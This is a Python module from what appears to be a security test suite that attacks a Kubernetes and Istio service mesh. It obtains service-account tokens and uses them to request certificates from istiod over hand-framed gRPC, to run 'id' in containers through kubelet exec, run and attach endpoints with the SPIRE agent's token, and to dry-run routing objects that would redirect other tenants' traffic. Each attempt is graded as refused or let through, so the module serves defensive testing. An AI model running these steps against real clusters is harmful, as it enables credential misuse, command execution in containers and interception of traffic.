"""Attacks with tokens of service accounts: certificates from istiod, commands by kubelets, routes by the API server."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from typing import Any

from fedmesh import certs, curl
from fedmesh.attack import certificates, pods, ports
from fedmesh.attack.attacker import SECONDS, Attacker, attacker_on, server_address
from fedmesh.attack.model import AttackResult, AttackSession, Verdict
from fedmesh.kube import FORBIDDEN, INVALID, NOT_FOUND, Json
from fedmesh.probe import poll
from fedmesh.reading import LiveCluster, full_name
from fedmesh.topology import CLIENT, SERVER_HOST, SPIRE_NAMESPACE

SIGNING = "a token asks istiod for a certificate"
KUBELETS = "the SPIRE agent's token asks kubelets for more than pods"
ROUTES = "a tenant routes the calls of others"
METHOD = "/istio.v1.auth.IstioCertificateService/CreateCertificate"
PEM = re.compile(r"-----BEGIN CERTIFICATE-----[^-]+-----END CERTIFICATE-----")
UNAUTHENTICATED = "16"
# The token is the first line of standard input, the text of the request the rest: neither is in a command line.
_GRPC = (
    'umask 077; h=$(mktemp); IFS= read -r t; printf "%s\\n" "$t" > $h; a=$1; b=$2; shift 2; '
    '{ printf "$a"; cat; printf "$b"; } | curl -H @$h "$@"; e=$?; rm $h; exit $e'
)
NETWORKING, EXTENSIONS = "networking.istio.io/v1", "extensions.istio.io/v1alpha1"
RBAC = f"/apis/rbac.authorization.k8s.io/v1/namespaces/{CLIENT}"
COLLECTIONS = (f"{RBAC}/rolebindings", f"{RBAC}/roles")
KUBELET = 10250
SETTLED = 10.0  # seconds
ALLOWED, CREATED = 200, 201
REFUSAL = re.compile(r"olicy '(fedmesh-[a-z-]+)'")


def token_of(cluster: LiveCluster, namespace: str, account: str, audience: str = "") -> str:
    """A token of a service account for ten minutes, for the API server or another audience."""
    spec: Json = {"expirationSeconds": 600, **({"audiences": [audience]} if audience else {})}
    body: Json = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": spec}
    path = f"/api/v1/namespaces/{namespace}/serviceaccounts/{account}/token"
    return str(cluster.api.create(path, body)["status"]["token"])


def run_signing(session: AttackSession, cluster: LiveCluster) -> list[AttackResult]:
    """Asks every port of istiod for a certificate, with the tokens of the same account here and on each peer."""
    attacker = attacker_on(session, cluster)
    tokens = {
        each.name: token_of(each, CLIENT, CLIENT, "istio-ca") for each in (cluster, *session.peers(cluster))
    }
    istiods = {full_name(pod) for pod in cluster.istiods()[:1]}
    tried = [
        (port, owner, life)
        for port in ports.ports(cluster)
        if full_name(port.pod) in istiods
        for owner in tokens
        for life in (0, 3600)
    ]
    control = _create(attacker, f"https://{cluster.istiods()[0]['status']['podIP']}:15012", "", "", 0)[0]
    heard = f"15012 without a token: {_said(control)}"

    def attack(job: tuple[ports.Port, str, int]) -> AttackResult:
        port, owner, life = job
        target = f"{port.target} by {CLIENT} of {owner} for {f'{life} s' if life else 'the default life'}"
        address = f"{port.pod['status']['podIP']}:{port.number}"
        found = [
            _create(attacker, f"{scheme}://{address}", tokens[owner], owner, life)
            for scheme in ("https", "http")
        ]
        answers = [answer for answer, _ in found]
        closed = ports.closing_policy(cluster, port.pod, port.number)
        silent = ports.judge_silent(port.pod, closed, answers)
        if silent:
            return AttackResult(SIGNING, cluster.name, target, *silent)
        for answer, key in found:
            if chain := PEM.findall(answer.body):
                verdict, evidence = _judge_chain(attacker, cluster, chain, key)
                return AttackResult(SIGNING, cluster.name, target, verdict, evidence, heard)
        verdict, evidence = judge_denied(answers, control)
        return AttackResult(SIGNING, cluster.name, target, verdict, evidence, heard)

    with ThreadPoolExecutor(max_workers=4) as pool:
        return list(pool.map(attack, tried))


def _create(attacker: Attacker, url: str, token: str, owner: str, life: int) -> tuple[curl.Answer, str]:
    """The answer to one CreateCertificate, and the key that a certificate in it would be for."""
    request, key = certs.signing_request()
    before, after = framed(request, life)
    way = "--http2" if url.startswith("https") else "--http2-prior-knowledge"
    headers = [f"clusterid: {owner}", "content-type: application/grpc", "te: trailers"]
    options = [way, "-k", "--data-binary", "@-", *(part for each in headers for part in ("-H", each))]
    command = [
        "sh",
        "-c",
        _GRPC,
        "sh",
        before,
        after,
        *curl.command(url + METHOD, *options, timeout=SECONDS)[1:],
    ]
    header = f"authorization: Bearer {token}" if token else "x-token: none"
    return curl.parse(attacker.run(command, f"{header}\n{request}")), key


def framed(request: str, life: int) -> tuple[str, str]:
    """What comes before and after a signing request in a gRPC message, as octal escapes for printf."""
    head, tail = b"\x0a" + _varint(len(request)), (b"\x18" + _varint(life)) if life else b""
    size = len(head) + len(request) + len(tail)
    return _octal(b"\0" + size.to_bytes(4, "big") + head), _octal(tail)


def _varint(number: int) -> bytes:
    low, rest = number & 0x7F, number >> 7
    return bytes([low | 0x80]) + _varint(rest) if rest else bytes([low])


def _octal(text: bytes) -> str:
    return "".join(f"\\{each:03o}" for each in text)


def judge_denied(answers: Sequence[curl.Answer], control: curl.Answer) -> tuple[Verdict, str]:
    """Verdict and evidence without a certificate; istiod's service itself must have answered somewhere."""
    heard = "; ".join(dict.fromkeys(_said(each) for each in answers))
    alive = control.headers.get("grpc-status") == UNAUTHENTICATED
    timed_out = any(each.code == ports.TIMED_OUT for each in answers)
    return (Verdict.REFUSED if alive and not timed_out else Verdict.UNJUDGED), heard


def _said(answer: curl.Answer) -> str:
    if status := answer.headers.get("grpc-status"):
        return f"gRPC status {status} {answer.headers.get('grpc-message', '')}".strip()
    return f"HTTP {answer.status}, no certificate" if answer.status else answer.error


def _judge_chain(
    attacker: Attacker, cluster: LiveCluster, chain: Sequence[str], key: str
) -> tuple[Verdict, str]:
    """Verdict and evidence of a certificate: it must be over, or of no authority that a workload accepts."""
    parsed = certs.parse_chain("\n".join(chain).encode())
    now = datetime.now(UTC) + timedelta(seconds=cluster.clock_ahead())
    if (over := now - parsed[0].not_valid_after_utc) > timedelta(0):
        return Verdict.REFUSED, f"a certificate that ended {certs.human(over)} ago"
    shown = "\n".join([*chain, key])
    answer = attacker.ask_tls(*server_address(cluster), shown)
    return certificates.judge(
        answer, attacker.ask_tls(*server_address(cluster), certificates.member(cluster))
    )


def run_kubelets(session: AttackSession, cluster: LiveCluster) -> Iterator[AttackResult]:
    """Uses a token of the SPIRE agent at the kubelet of every node."""
    attacker = attacker_on(session, cluster)
    token = token_of(cluster, SPIRE_NAMESPACE, "spire-agent")
    for node in cluster.nodes():
        address = next(a["address"] for a in node["status"]["addresses"] if a["type"] == "InternalIP")
        url = f"https://{address}:{KUBELET}"
        control = attacker.ask_as(token, f"{url}/pods")
        beside = [pod for pod in cluster.pods() if pod["spec"].get("nodeName") == node["metadata"]["name"]]
        for what, method, path in kubelet_paths(beside[0]):
            answer = attacker.ask_as(token, url + path, "-X", method)
            verdict, evidence = judge_kubelet(answer, control)
            target = f"{what} by the kubelet of {full_name(node)}"
            told = f"/pods with the same token: {control.status or control.error}"
            yield AttackResult(KUBELETS, cluster.name, target, verdict, evidence, told)


def kubelet_paths(pod: Json) -> list[tuple[str, str, str]]:
    """What a kubelet does in a pod for who has nodes/proxy: words, method and path."""
    inside = f"{pod['metadata']['namespace']}/{pod['metadata']['name']}"
    container = pod["spec"]["containers"][0]["name"]
    return [
        ("exec", "GET", f"/exec/{inside}/{container}?command=id&output=1"),
        ("exec", "POST", f"/exec/{inside}/{container}?command=id&output=1"),
        ("run", "POST", f"/run/{inside}/{container}?cmd=id"),
        ("attach", "GET", f"/attach/{inside}/{container}?output=1"),
        ("port-forward", "GET", f"/portForward/{inside}"),
        ("logs", "GET", f"/containerLogs/{inside}/{container}"),
        ("configuration", "GET", "/configz"),
    ]


def judge_kubelet(answer: curl.Answer, control: curl.Answer) -> tuple[Verdict, str]:
    """Verdict and evidence: the kubelet must know the caller and deny it."""
    if answer.status == FORBIDDEN:
        known = control.status == ALLOWED
        return (Verdict.REFUSED if known else Verdict.UNJUDGED), f"403 {answer.body.strip()[:120]}"
    # 401 is a kubelet that does not know the token: nothing is shown by it
    if answer.status in (0, 401):
        return Verdict.UNJUDGED, answer.error or "401"
    return Verdict.THROUGH, f"answered with {answer.status}"


def run_routes(session: AttackSession, cluster: LiveCluster) -> Iterator[AttackResult]:
    """As an owner of Istio's objects in one namespace, asks for rules about the host of another, without making any."""
    attacker, name = attacker_on(session, cluster), f"fedmesh-attack-routes-{session.janitor.run}"
    account: Json = {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": name}}
    session.janitor.create(cluster.api, f"{pods.TENANT}/serviceaccounts", account)
    for plural, body in owner_of_routes(name).items():
        session.janitor.create(cluster.api, f"{RBAC}/{plural}", body)
    token = token_of(cluster, CLIENT, name)
    (api,) = [each for each in cluster.services("default") if each["metadata"]["name"] == "kubernetes"]
    host = api["spec"]["clusterIP"]
    base = f"https://{f'[{host}]' if ':' in host else host}/apis"

    def ask(plural: str, body: Json) -> curl.Answer:
        url = f"{base}/{body['apiVersion']}/namespaces/{CLIENT}/{plural}?dryRun=All"
        options = ("-H", "content-type: application/json", "--data-binary", json.dumps(body))
        return attacker.ask_as(token, url, *options)

    own = f"{CLIENT}.{CLIENT}.svc.cluster.local"

    def admitted() -> curl.Answer | None:
        # the authorizer learns of a binding a moment after its creation
        answer = ask("virtualservices", virtual_service(own, name))
        return answer if answer.status == CREATED else None

    control = poll(admitted, SETTLED, 0.5)
    told = f"a VirtualService for {own}: {'admitted' if control else 'refused as well'}"
    for target, (plural, body) in routes(SERVER_HOST, name).items():
        answer = ask(plural, body)
        if answer.status == NOT_FOUND:  # a kind that this version of Istio does not have
            continue
        verdict, evidence = judge_route(answer, control is not None)
        yield AttackResult(ROUTES, cluster.name, target, verdict, evidence, told)


def owner_of_routes(name: str) -> dict[str, Json]:
    """A Role with rights on Istio's objects in the namespace of the client, and its binding, by plural."""
    group = "rbac.authorization.k8s.io"
    groups = [version.split("/")[0] for version in (NETWORKING, EXTENSIONS)]
    rule = {"apiGroups": groups, "resources": ["*"], "verbs": ["create"]}
    head = {"apiVersion": f"{group}/v1", "metadata": {"name": name}}
    subject = {"kind": "ServiceAccount", "name": name, "namespace": CLIENT}
    reference = {"apiGroup": group, "kind": "Role", "name": name}
    return {
        "roles": {**head, "kind": "Role", "metadata": {"name": name}, "rules": [rule]},
        "rolebindings": {**head, "kind": "RoleBinding", "roleRef": reference, "subjects": [subject]},
    }


def virtual_service(host: str, name: str) -> Json:
    """A VirtualService that leads the calls of a host to the attacker."""
    route = {"route": [{"destination": {"host": f"{CLIENT}.{CLIENT}.svc.cluster.local"}}]}
    return _made("VirtualService", name, {"hosts": [host], "http": [route]})


def routes(host: str, name: str) -> dict[str, tuple[str, Json]]:
    """Objects that would lead others' calls to the attacker, by what they are: plural and object."""
    own = f"{CLIENT}.{CLIENT}.svc.cluster.local"
    policy = {"loadBalancer": {"simple": "RANDOM"}}

    def entry(host: str, **more: Any) -> tuple[str, Json]:
        ports = [{"number": 5000, "name": "http", "protocol": "HTTP"}]
        endpoints = [{"address": "192.0.2.1"}]
        spec = {"hosts": [host], "ports": ports, "resolution": "STATIC", "endpoints": endpoints, **more}
        return "serviceentries", _made("ServiceEntry", name, spec)

    rule = _made("DestinationRule", name, {"host": host, "trafficPolicy": policy})
    lua = _made("TrafficExtension", name, {"lua": {"inlineCode": "-- nothing"}}, EXTENSIONS)
    short = host.split(".", maxsplit=1)[0]
    return {
        f"VirtualService for {host}": ("virtualservices", virtual_service(host, name)),
        f"DestinationRule for {host}": ("destinationrules", rule),
        f"ServiceEntry for {host}": entry(host),
        f"ServiceEntry for the short name {short}": entry(short),
        "ServiceEntry for every address of a range": entry(own, addresses=["192.0.2.0/24"]),
        "TrafficExtension with a program for proxies": ("trafficextensions", lua),
    }


def _made(kind: str, name: str, spec: Json, version: str = NETWORKING) -> Json:
    return {"apiVersion": version, "kind": kind, "metadata": {"name": name}, "spec": spec}


def judge_route(answer: curl.Answer, control: bool) -> tuple[Verdict, str]:
    """Verdict and evidence: the mesh's own policy must refuse the object, and a tenant's own route be admitted."""
    if answer.status == CREATED:
        return Verdict.THROUGH, "the API server would create it"
    refusal = REFUSAL.search(answer.body)
    if answer.status not in (FORBIDDEN, INVALID) or not refusal or not control:
        return Verdict.UNJUDGED, f"{answer.status} {answer.body[-160:] or answer.error}"
    return Verdict.REFUSED, f"{answer.status}: {refusal[1]}"
